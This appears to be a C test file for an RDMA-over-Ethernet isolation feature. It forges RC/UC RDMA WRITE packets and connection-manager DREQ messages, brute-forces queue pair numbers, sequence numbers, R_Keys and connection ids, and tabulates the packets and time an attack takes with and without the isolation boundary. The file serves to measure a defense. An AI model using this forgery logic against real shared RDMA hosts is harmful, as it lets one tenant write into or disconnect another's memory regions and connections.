/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* verbs_attack_work.c - how much another user of this host has to send for a number that
 * it does not know: the table of rocin-security.7.
 *
 * Where everybody's packets count (ROCIN_NEIGHBOURS=all), the attacker is told all but k
 * bits of one number, for k = 8, 12 and 16, and tries them until the attack succeeds.
 * That takes a share of the 2^k values which should not depend on k; the rest of the bits
 * is extrapolated from it. With the boundary the same packets have no effect.
 *
 * ADVERSARY_LONG: more attempts, for figures that are worth printing.
 */
#include <inttypes.h>
#include <math.h>
#include <poll.h>
#include <rdma/rdma_cma.h>
#include <stdio.h>
#include <unistd.h>

#include "forge_mad.h"
#include "forger.h"
#include "other_end.h"
#include "rocin/icrc.h"
#include "rocin/opcode.h"
#include "rocin/wire.h"

enum {
	PSN = 0xfffffe, /* with which queue pairs of the kit begin */
	LENGTH = 16,
	FOREIGN = 0xee,
	SIZES = 3,
	/* An attack counts as failed after so many rounds through all values, and so many
	 * looks at its effect: on a busy machine many rounds go by, and are lost in a
	 * full socket, before the victim gets a processor.
	 */
	ROUNDS_MAX = 64,
	LOOKS_MAX = 20000,
	ROUNDS_KEPT_OUT = 2,
};

static const unsigned unknown_bits[SIZES] = { 8, 12, 16 };
static const unsigned trials[SIZES] = { 12, 6, 4 }, quick_trials[SIZES] = { 6, 2, 1 };

static struct kit *k;
static struct ibv_qp *qp;
static struct other_end other;
static bool succeeds, is_long;

/* ---- The numbers ---- */

static uint8_t *begin_write(struct forgery *f, uint8_t opcode, uint32_t qpn, uint32_t psn)
{
	const struct rn_bth bth = {
		.opcode = opcode, .pkey = 0xffff, .dest_qpn = qpn, .psn = rn_psn(psn)
	};
	const struct rn_reth reth = { .va = other.va,
				      .rkey = other.rkey,
				      .dma_len = LENGTH };
	uint8_t *p;

	memset(f, 0, sizeof(*f));
	memcpy(f->src.raw, k->gid.raw, sizeof(f->src.raw));
	f->dst = f->src;
	p = rn_reth_emit(rn_bth_emit(f->pkt, &bth), &reth);
	memset(p, FOREIGN, LENGTH);
	f->len = (size_t)(p - f->pkt) + LENGTH + RN_ICRC_LEN;
	return p;
}

static void connect_ends(enum ibv_qp_type type)
{
	other = other_end_create(type);
	qp = kit_create_qp(k, type);
	kit_to_init(qp);
	kit_to_rts(k, qp, other.qpn);
	other_end_connect(qp->qp_num);
}

static bool is_written(void)
{
	return other_end_look().byte == FOREIGN;
}

static void disconnect_ends(void)
{
	assert_int_equal(ibv_destroy_qp(qp), 0);
	other_end_destroy();
}

static void begin_qpn(struct forgery *f)
{
	connect_ends(IBV_QPT_RC);
	begin_write(f, RN_RC_WRITE_ONLY, other.qpn, PSN);
	f->at = 5;
	f->bytes = 3;
	f->low = 8; /* the slot is known */
}

static void begin_psn(struct forgery *f)
{
	connect_ends(IBV_QPT_RC);
	begin_write(f, RN_RC_WRITE_ONLY, other.qpn, PSN);
	f->at = 9;
	f->bytes = 3;
}

/* Of an unreliable connection, since a wrong key ends a reliable one: there an attacker
 * who knows the PSN has one guess.
 */
static void begin_rkey(struct forgery *f)
{
	connect_ends(IBV_QPT_UC);
	begin_write(f, RN_UC_WRITE_ONLY, other.qpn, PSN);
	f->at = RN_BTH_LEN + 8;
	f->bytes = 4;
}

/* ---- A connection of rdma_cm ---- */

static struct rdma_event_channel *asker, *asked;
static struct rdma_cm_id *listener, *active, *passive;

static struct rdma_cm_id *expect(struct rdma_event_channel *channel,
				 enum rdma_cm_event_type type)
{
	struct rdma_cm_event *ev = NULL;
	struct rdma_cm_id *id;

	assert_int_equal(rdma_get_cm_event(channel, &ev), 0);
	if (ev->event != type)
		fail_msg("%s, and not %s", rdma_event_str(ev->event),
			 rdma_event_str(type));
	id = ev->id;
	rdma_ack_cm_event(ev);
	return id;
}

enum {
	ACTIVE_QPN = 0x12300, /* of queue pairs that are made elsewhere */
	PASSIVE_QPN = 0x45600,
};

static void begin_cm_id(struct forgery *f)
{
	struct rdma_conn_param param = { .retry_count = 7, .qp_num = ACTIVE_QPN };
	struct sockaddr_in at = { .sin_family = AF_INET };
	struct rn_cm_msg rep;

	memcpy(&at.sin_addr, k->gid.raw + 12, 4);
	assert_int_equal(rdma_create_id(asked, &listener, NULL, RDMA_PS_TCP), 0);
	assert_int_equal(rdma_bind_addr(listener, (struct sockaddr *)&at), 0);
	assert_int_equal(rdma_listen(listener, 8), 0);
	at.sin_port = rdma_get_src_port(listener);
	assert_int_equal(rdma_create_id(asker, &active, NULL, RDMA_PS_TCP), 0);
	assert_int_equal(rdma_resolve_addr(active, NULL, (struct sockaddr *)&at, 60000),
			 0);
	expect(asker, RDMA_CM_EVENT_ADDR_RESOLVED);
	assert_int_equal(rdma_resolve_route(active, 60000), 0);
	expect(asker, RDMA_CM_EVENT_ROUTE_RESOLVED);
	assert_int_equal(rdma_connect(active, &param), 0);
	passive = expect(asked, RDMA_CM_EVENT_CONNECT_REQUEST);
	param.qp_num = PASSIVE_QPN;
	assert_int_equal(rdma_accept(passive, &param), 0);
	rep = sniff_mad(RN_CM_REP);
	expect(asker, RDMA_CM_EVENT_CONNECT_RESPONSE);
	assert_int_equal(rdma_establish(active), 0);
	expect(asked, RDMA_CM_EVENT_ESTABLISHED);
	forge_mad(f, &(struct rn_cm_msg){ .attr = RN_CM_DREQ,
					  .dreq = { .local_id = rep.rep.remote_id,
						    .remote_id = rep.rep.local_id,
						    .remote_qpn = PASSIVE_QPN } });
	f->at = RN_GSI_MAD_AT + RN_MAD_HDR_LEN + 4;
	f->bytes = 4;
}

static bool is_disconnected(void)
{
	struct pollfd p = { .fd = asked->fd, .events = POLLIN };

	return poll(&p, 1, 1) == 1;
}

static void end_cm_id(void)
{
	if (is_disconnected())
		expect(asked, RDMA_CM_EVENT_DISCONNECTED);
	rdma_destroy_id(active);
	rdma_destroy_id(passive);
	rdma_destroy_id(listener);
}

/* ---- The table ---- */

struct number {
	const char *name;
	unsigned width;	 /* bits that are drawn at random */
	unsigned before; /* bits that were not known before numbers were drawn */
	const char *attack;
	void (*begin)(struct forgery *f);
	bool (*has_succeeded)(void);
	void (*end)(void);
};

static const struct number numbers[] = {
	{ "QPN", 16, 4, "RC WRITE", begin_qpn, is_written, disconnect_ends },
	{ "PSN", 24, 24, "RC WRITE", begin_psn, is_written, disconnect_ends },
	{ "R_Key", 32, 0, "UC WRITE", begin_rkey, is_written, disconnect_ends },
	{ "id of a connection", 32, 32, "DREQ", begin_cm_id, is_disconnected, end_cm_id },
};

/* Packets and seconds until the attack succeeds, or with the boundary until all values
 * have been tried.
 */
static struct forger_work attack(const struct number *n, unsigned bits)
{
	struct forger_work work;
	unsigned looks = 0;
	struct forgery f;
	bool has_succeeded;

	n->begin(&f);
	f.bits = bits;
	forger_begin(&f);
	do
		has_succeeded = n->has_succeeded();
	while (!has_succeeded &&
	       (forger_rounds() < (succeeds ? ROUNDS_MAX : ROUNDS_KEPT_OUT) ||
		(succeeds && looks++ < LOOKS_MAX)));
	work = forger_end();
	if (has_succeeded != succeeds)
		fail_msg("%s: after %" PRIu64 " packets the attack has%s succeeded",
			 n->name, work.packets, has_succeeded ? "" : " not");
	n->end();
	return work;
}

static void attack_on_path(const struct number *n)
{
	struct forgery f;

	n->begin(&f);
	forger_send(&f);
	while (succeeds && !n->has_succeeded())
		;
	n->end();
}

/* The share of 2^k that it takes, and the packets in a second. */
struct fit {
	double share, rate;
};

static struct fit measure(const struct number *n)
{
	double packets[SIZES], log_share = 0, all = 0, ns = 0;

	for (unsigned i = 0; i < SIZES; i++) {
		unsigned count = is_long ? trials[i] : quick_trials[i];

		packets[i] = 0;
		for (unsigned t = 0; t < count; t++) {
			struct forger_work work = attack(n, unknown_bits[i]);

			packets[i] += (double)work.packets / count;
			all += (double)work.packets;
			ns += (double)work.ns;
		}
		log_share += (log2(packets[i]) - unknown_bits[i]) / SIZES;
	}
	printf("%-20s %-9s %8.0f %8.0f %8.0f  %5.2f", n->name, n->attack, packets[0],
	       packets[1], packets[2], exp2(log_share));
	return (struct fit){ exp2(log_share), all * 1e9 / ns };
}

static void print_time(double seconds)
{
	static const struct {
		double length;
		const char *name;
	} units[] = { { 31557600, "years" }, { 86400, "days" }, { 3600, "hours" },
		      { 60, "minutes" },     { 1, "s" },	{ 0, "ms" } };
	unsigned u = 0;

	while (units[u].length > 0 && seconds < 2 * units[u].length)
		u++;
	printf(" %5.3g %s",
	       units[u].length > 0 ? seconds / units[u].length : seconds * 1000,
	       units[u].name);
}

static void print_work(double bits, const struct fit *fit)
{
	double packets = bits > 0 ? fit->share * exp2(bits) : 1;

	printf(" %9.3g", packets);
	print_time(packets / fit->rate);
}

static void each_number_takes_its_share(void **state)
{
	(void)state;
	printf("packets until the attack succeeds, k bits unknown; all bits unknown\n");
	printf("%-20s %-9s %8s %8s %8s  %5s   %s\n", "number", "attack", "k=8", "12",
	       "16", "/2^k", "before: packets, time; now");
	for (unsigned i = 0; i < RN_ARRAY_SIZE(numbers); i++) {
		const struct number *n = &numbers[i];
		struct fit fit;

		attack_on_path(n);
		fit = measure(n);
		print_work(n->before, &fit);
		printf(" ");
		print_work(n->width, &fit);
		printf("  (%.0f packets/s)\n", fit.rate);
	}
	printf("on path: one packet each\n");
}

static void no_number_is_enough(void **state)
{
	uint64_t packets = 0;

	(void)state;
	for (unsigned i = 0; i < RN_ARRAY_SIZE(numbers); i++) {
		attack_on_path(&numbers[i]);
		for (unsigned s = 0; s < (is_long ? SIZES : SIZES - 1); s++)
			packets += attack(&numbers[i], unknown_bits[s]).packets;
	}
	printf("with the boundary: no effect of %" PRIu64
	       " packets, the right ones among "
	       "them\n",
	       packets);
}

static int begin(void **state)
{
	if (kit_setup(state))
		return -1;
	k = *state;
	asker = rdma_create_event_channel();
	asked = rdma_create_event_channel();
	return asker && asked && sniffer_start(&k->gid) == 0 ? 0 : -1;
}

static int end(void **state)
{
	sniffer_stop();
	rdma_destroy_event_channel(asker);
	rdma_destroy_event_channel(asked);
	return kit_teardown(state);
}

int main(void)
{
	const char *who = getenv("ROCIN_NEIGHBOURS");
	int failed;

	if (forger_start()) {
		printf("skipped: becoming another user needs root\n");
		return 77;
	}
	assert_int_equal(other_end_start(), 0);
	succeeds = who && strcmp(who, "all") == 0;
	is_long = getenv("ADVERSARY_LONG") != NULL;
	if (succeeds) {
		const struct CMUnitTest tests[] = {
			cmocka_unit_test_setup_teardown(each_number_takes_its_share,
							begin, end),
		};
		failed = cmocka_run_group_tests(tests, NULL, NULL);
	} else {
		const struct CMUnitTest tests[] = {
			cmocka_unit_test_setup_teardown(no_number_is_enough, begin, end),
		};
		failed = cmocka_run_group_tests(tests, NULL, NULL);
	}
	other_end_stop();
	forger_stop();
	return failed;
}
